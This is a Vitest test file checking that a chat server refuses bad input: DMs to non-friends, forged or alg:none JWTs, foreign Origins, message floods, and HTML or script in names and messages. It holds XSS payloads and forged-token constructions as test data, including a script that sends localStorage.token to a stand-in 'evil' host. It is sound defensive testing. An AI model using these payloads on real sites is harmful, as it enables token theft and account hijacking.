/**
 * The bad-input catalogue (docs/guarantees.md), rows 8-14: authorization, tokens, Origin,
 * floods and markup. Row 13 (a client that stops reading) is the backpressure test in
 * gateway.test.ts; rows 12 and 11 also have fuller tests there. Rows 15-18 (widget, calls,
 * TURN, uploads) are not part of this surface.
 */
import { afterEach, describe, expect, it } from 'vitest';
import jwt from 'jsonwebtoken';
import { CloseCode, ErrorCode, dmConversationId, type ErrorFrame, type SyncedFrame } from '@quickchat/protocol';
import { loadOrCreateSecrets } from '../src/data-dir.js';
import { RawClient } from './support/ws-client.js';
import { upgradeStatus } from './support/upgrade.js';
import { errorFor, exchange, expectRestError, expectUnharmed, frame, query, setupScene, tableCounts, teardown, type Scene } from './support/bad-input.js';

let s: Scene | null = null;
afterEach(async () => {
  await teardown(s);
  s = null;
});

let n = 0;
/** Sends a DM, a typing signal and a receipt into `conversationId`, and reads its history; returns the refusals. */
async function refusals(scene: Scene, conversationId: string) {
  const send = await errorFor(scene.a, `s${++n}`, { type: 'send', id: `s${n}`, conversationId, clientMsgId: `probe${n}`, content: { type: 'text', text: 'hi' } });
  // Typing frames carry no request id, so the refusal is the one error before the next pong.
  const start = scene.a.frames.length;
  scene.a.send({ type: 'typing', conversationId, active: true });
  await scene.a.roundTrip();
  const typingErrors = scene.a.frames.slice(start).filter((f): f is ErrorFrame => f.type === 'error');
  expect(typingErrors).toHaveLength(1);
  const typing = typingErrors[0]!;
  const receipt = await errorFor(scene.a, `r${++n}`, { type: 'receipt', id: `r${n}`, conversationId, read: 1 });
  const history = await scene.rest.call('GET', `/api/conversations/${conversationId}/messages`, { token: scene.alice.token });
  const strip = (e: ErrorFrame) => ({ code: e.code, message: e.message });
  return { send: strip(send), typing: strip(typing), receipt: strip(receipt), history: { status: history.status, body: history.body as unknown } };
}

describe('bad input, row 8: a DM to a non-friend, a blocked user or a nonexistent user', () => {
  it('gets the same not_found in every case, and nothing is stored or delivered', async () => {
    s = await setupScene();
    const { rest, alice } = s;
    const erin = await rest.register('erin');
    const frank = await rest.register('frank');
    const gina = await rest.register('gina');
    await rest.befriend(alice, erin);
    await rest.befriend(alice, frank);
    expect((await rest.call('PUT', `/api/blocks/${alice.id}`, { token: erin.token })).status).toBe(204); // erin blocks alice
    expect((await rest.call('PUT', `/api/blocks/${frank.id}`, { token: alice.token })).status).toBe(204); // alice blocks frank
    expect((await rest.call('POST', '/api/friend-requests', { token: alice.token, body: { userId: gina.id } })).body).toEqual({ status: 'outgoing' });
    const watchers = [await s.connect(erin), await s.connect(frank), await s.connect(gina)];
    const before = tableCounts(s);
    const targets = { stranger: s.carol.id, 'blocked you': erin.id, 'blocked by you': frank.id, 'request pending': gina.id, nonexistent: 'u_doesnotexist00' };
    const results = [];
    for (const [name, id] of Object.entries(targets)) results.push([name, await refusals(s, dmConversationId(alice.id, id))] as const);
    const [, first] = results[0]!;
    expect(first.send).toEqual({ code: ErrorCode.NotFound, message: expect.any(String) });
    expect(first.typing).toEqual(first.send);
    expect(first.receipt).toEqual(first.send);
    // History of a DM id naming yourself reveals nothing either: no messages, the same answer in every case.
    expect(first.history.status === 404 ? first.history.body : { error: first.send }).toEqual({ error: first.send });
    if (first.history.status !== 404) expect(first.history).toEqual({ status: 200, body: { messages: [], hasMore: false } });
    for (const [name, result] of results) expect(result, name).toEqual(first);
    expect(tableCounts(s)).toEqual(before);
    expect(query(s, 'SELECT COUNT(*) AS n FROM conversations WHERE id NOT IN (?, ?)', s.ab, s.cd)).toEqual([{ n: 0 }]);
    for (const w of watchers) {
      await w.roundTrip();
      expect(w.frames.some((f) => f.type === 'message' || f.type === 'typing' || f.type === 'receipt')).toBe(false);
    }
    await expectUnharmed(s);
  });
});

describe('bad input, row 9: a group you are not in', () => {
  it('looks exactly like a conversation that does not exist', async () => {
    s = await setupScene();
    const before = tableCounts(s);
    const nonexistentDm = await refusals(s, dmConversationId(s.alice.id, 'u_doesnotexist00'));
    expect(nonexistentDm.send.code).toBe(ErrorCode.NotFound);
    // Someone else's DM: the conversation exists, alice is not in it.
    const othersDm = await refusals(s, s.cd);
    expect(othersDm.history).toEqual({ status: 404, body: { error: nonexistentDm.send } });
    for (const group of ['g:somegroup', 'g:x', `g:${'a'.repeat(64)}`]) {
      const result = await refusals(s, group);
      expect({ send: result.send, typing: result.typing, receipt: result.receipt }, group).toEqual({ send: nonexistentDm.send, typing: nonexistentDm.typing, receipt: nonexistentDm.receipt });
      expect(result, group).toEqual(othersDm);
    }
    // Catch-up does not reveal it either.
    s.a.send({ type: 'sync', id: 'gs', cursors: { 'g:somegroup': 0, [s.ab]: 0 }, eventsAfter: 0 });
    const synced = await frame<SyncedFrame>(s.a, (f) => f.type === 'synced' && f.id === 'gs');
    expect(synced.conversations.map((c) => c.conversationId)).toEqual([s.ab]);
    expect(tableCounts(s)).toEqual(before);
    await expectUnharmed(s);
  });
});

describe('bad input, row 10: bad tokens', () => {
  it('rejects expired, tampered, alg:none, wrong-issuer and wrong-audience tokens on REST and socket before any work', async () => {
    s = await setupScene();
    const { jwtSecret } = loadOrCreateSecrets(s.t.dataDir);
    const claims = jwt.decode(s.alice.token) as jwt.JwtPayload;
    const now = Math.floor(Date.now() / 1000);
    const sign = (payload: object, secret = jwtSecret, algorithm: jwt.Algorithm = 'HS256') => jwt.sign(payload, secret, { algorithm });
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
    const [head, body, signature] = s.alice.token.split('.') as [string, string, string];
    const flipped = (signature[0] === 'A' ? 'B' : 'A') + signature.slice(1);
    const fresh = { ...claims, iat: now, exp: now + 600 };
    // The control: a token forged the same way with the right secret and claims is accepted,
    // so every refusal below is about the one thing that differs.
    const control = sign(fresh);
    expect((await s.rest.call('GET', '/api/me', { token: control })).status).toBe(200);
    await (await RawClient.connect(s.t.wsUrl, control)).close();

    const bad: [string, string, string][] = [
      ['expired', sign({ ...claims, iat: now - 1200, exp: now - 600 }), ErrorCode.AuthExpired],
      ['tampered signature', `${head}.${body}.${flipped}`, ErrorCode.Unauthenticated],
      ['tampered payload', `${head}.${b64({ ...claims, sub: s.bob.id })}.${signature}`, ErrorCode.Unauthenticated],
      ['alg none', `${b64({ alg: 'none', typ: 'JWT' })}.${b64(fresh)}.`, ErrorCode.Unauthenticated],
      ['alg none, signature kept', `${b64({ alg: 'none', typ: 'JWT' })}.${body}.${signature}`, ErrorCode.Unauthenticated],
      ['HS512 with the right secret', sign(fresh, jwtSecret, 'HS512'), ErrorCode.Unauthenticated],
      ['another secret', sign(fresh, 'some other secret that is long enough'), ErrorCode.Unauthenticated],
      ['wrong iss', sign({ ...fresh, iss: 'evil' }), ErrorCode.Unauthenticated],
      ['wrong aud', sign({ ...fresh, aud: 'someone-else' }), ErrorCode.Unauthenticated],
      ['not an access token', sign({ ...fresh, typ: 'refresh' }), ErrorCode.Unauthenticated],
      ['refresh token', s.alice.refreshToken, ErrorCode.Unauthenticated],
      ['garbage', 'not-a-jwt', ErrorCode.Unauthenticated],
    ];
    const before = tableCounts(s);
    for (const [name, token, code] of bad) {
      const me = await s.rest.call('GET', '/api/me', { token });
      expectRestError(me, 401, code);
      // A write with the token does nothing.
      expectRestError(await s.rest.call('POST', '/api/friend-requests', { token, body: { userId: s.carol.id } }), 401, code);
      const u = await RawClient.open(s.t.wsUrl);
      u.send({ type: 'auth', token });
      u.send({ type: 'send', conversationId: s.ab, clientMsgId: 'with-bad-token', content: { type: 'text', text: name } });
      const close = await u.closed;
      expect(close.code, name).toBe(code === ErrorCode.AuthExpired ? CloseCode.AuthExpired : CloseCode.AuthFailed);
      expect(u.frames.map((f) => f.type), name).toEqual(['error']);
      expect(u.frames[0], name).toMatchObject({ code });
    }
    expect(tableCounts(s)).toEqual(before);
    await expectUnharmed(s);
  });
});

describe('bad input, row 11: a foreign Origin', () => {
  it('is refused at the upgrade and on every REST route, readable only as the refusal; allowed origins keep working', async () => {
    s = await setupScene({ allowedOrigins: ['https://app.example.com'] });
    for (const origin of ['https://evil.example.com', 'https://app.example.com.evil.com', 'http://app.example.com']) {
      expect(await upgradeStatus(s.t.wsUrl, { origin }), origin).toBe(403);
      await expect(RawClient.connect(s.t.wsUrl, s.alice.token, { origin })).rejects.toThrow(/403/);
      // The page may read that it was refused (so the widget can say why), and nothing else: even
      // with a valid token, no route runs and no data comes back.
      for (const path of ['/api/me', `/api/conversations/${encodeURIComponent(s.ab)}/messages`, '/api/friends']) {
        const res = await fetch(`${s.t.url}${path}`, { headers: { origin, authorization: `Bearer ${s.alice.token}` } });
        expect({ origin, path, status: res.status, body: await res.json() }).toEqual({ origin, path, status: 403, body: { error: { code: 'origin_not_allowed', message: expect.any(String) } } });
      }
    }
    const ok = await RawClient.connect(s.t.wsUrl, s.bob.token, { origin: 'https://app.example.com' });
    s.clients.push(ok);
    await exchange(s.a, ok, s.ab, 'from an allowed origin');
    const preflight = await fetch(`${s.t.url}/api/me`, { method: 'OPTIONS', headers: { origin: 'https://app.example.com', 'access-control-request-method': 'GET' } });
    expect(preflight.headers.get('access-control-allow-origin')).toBe('https://app.example.com');
    await expectUnharmed(s);
  });
});

describe('bad input, row 12: a message flood from one connection', () => {
  it('is rate-limited, then closed with 4004, while other users keep chatting', async () => {
    s = await setupScene({ limits: { messagesPerSecond: 5, messageBurst: 10, rateLimitStrikes: 20 } });
    const before = query<{ n: number }>(s, 'SELECT COUNT(*) AS n FROM messages WHERE conversation_id = ?', s.ab)[0]!.n;
    const a = s.a;
    const flood = (async () => {
      for (let i = 0; i < 300 && a.ws.readyState === a.ws.OPEN; i++) {
        a.send({ type: 'send', id: i, conversationId: s!.ab, clientMsgId: `flood${i}`, content: { type: 'text', text: `flood ${i}` } });
        if (i % 10 === 9) await new Promise((r) => setImmediate(r));
      }
    })();
    await Promise.all([flood, exchange(s.c, s.d, s.cd, 'carol during the flood')]);
    expect((await a.closed).code).toBe(CloseCode.RateLimited);
    const limited = a.frames.filter((f): f is ErrorFrame => f.type === 'error' && f.code === ErrorCode.RateLimited);
    expect(limited.length).toBeGreaterThan(0);
    expect(limited.every((e) => typeof e.id === 'number' && (e.retryAfterMs ?? 0) > 0)).toBe(true);
    await expectUnharmed(s); // also lets every accepted write commit
    const stored = query<{ n: number }>(s, 'SELECT COUNT(*) AS n FROM messages WHERE conversation_id = ?', s.ab)[0]!.n - before;
    expect(stored).toBeGreaterThanOrEqual(a.frames.filter((f) => f.type === 'ack').length - 1);
    expect(stored).toBeLessThan(30); // roughly the burst; far below the 300 sent
    // The flooder may come back on a fresh connection.
    const again = await s.connect(s.alice);
    await again.roundTrip();
  });
});

describe('bad input, row 14: HTML and script in names, memos and messages', () => {
  it('stores and returns them verbatim, byte for byte, as JSON', async () => {
    s = await setupScene();
    const { rest } = s;
    const name = '<img src=x onerror=alert(1)><script>x</script>';
    const reg = await rest.call('POST', '/api/auth/register', { body: { handle: 'mallory', displayName: name, password: 'long enough password' } });
    expect(reg.status).toBe(201);
    expect(reg.body.user.displayName).toBe(name);
    const profile = await rest.call('GET', `/api/users/${reg.body.user.id}`, { token: s.alice.token });
    expect(profile.headers.get('content-type')).toMatch(/^application\/json/);
    expect(Buffer.from(profile.body.displayName).equals(Buffer.from(name))).toBe(true);

    const name2 = '"><svg onload=alert(1)>&amp;&lt;';
    const signature = '<a href="javascript:alert(1)">click</a>\u2028</script><!--';
    const patched = await rest.call('PATCH', '/api/me', { token: s.alice.token, body: { displayName: name2, signature } });
    expect(patched.body).toMatchObject({ displayName: name2, signature });
    const friends = await rest.call('GET', '/api/friends', { token: s.bob.token });
    expect(friends.body.items.find((e: { user: { id: string } }) => e.user.id === s!.alice.id).user).toMatchObject({ displayName: name2, signature });
    expect(query(s, 'SELECT display_name, signature FROM users WHERE id = ?', s.alice.id)).toEqual([{ display_name: name2, signature }]);

    const memo = '<b onmouseover="steal()">be my friend</b>';
    await rest.call('POST', '/api/friend-requests', { token: s.alice.token, body: { userId: s.carol.id, memo } });
    const incoming = await rest.call('GET', '/api/friend-requests/incoming', { token: s.carol.token });
    expect(incoming.body.items[0].memo).toBe(memo);

    const text = `<script>alert(document.cookie)</script><img src=x onerror="fetch('//evil/'+localStorage.token)"> &lt;b&gt; &#60;i&#62; \u2028\u2029 </script><!-- \u{1F600} \\u003c ${'"'}'\``;
    const b = await s.connect(s.bob);
    const { ack, message } = await exchange(s.a, b, s.ab, text);
    expect(message.message.content.type === 'text' && Buffer.from(message.message.content.text).equals(Buffer.from(text))).toBe(true);
    const history = await rest.call('GET', `/api/conversations/${s.ab}/messages?after=1`, { token: s.bob.token });
    expect(history.body.messages).toEqual([message.message]);
    const row = query<{ content: string }>(s, 'SELECT content FROM messages WHERE id = ?', ack.messageId)[0]!;
    expect(JSON.parse(row.content)).toEqual({ type: 'text', text });
    await expectUnharmed(s);
  });
});
